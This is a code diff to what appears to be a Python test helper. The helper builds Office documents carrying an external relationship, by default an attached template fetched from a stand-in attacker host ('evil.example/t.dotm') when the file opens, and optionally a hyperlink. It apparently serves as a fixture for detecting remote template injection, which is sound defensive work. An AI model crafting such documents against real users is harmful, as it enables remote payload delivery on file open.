@@ -70,11 +70,13 @@ def with_entry(name: str) -> bytes:
     return out.getvalue()
 
 
-def with_external_relationship() -> bytes:
-    """A document whose body relationships fetch a template from a web server when opened."""
+def with_external_relationship(kind: str = "attachedTemplate", target: str = "") -> bytes:
+    """A document with one external relationship in its body: by default an attached template
+    fetched from a web server when the file opens; `kind="hyperlink"` is a clickable link."""
+    target = target or "http://evil.example/t.dotm"
     external = (
         '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
-        '2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+        f'2006/relationships/{kind}" Target="{target}" '
         'TargetMode="External"/></Relationships>'
     )
 
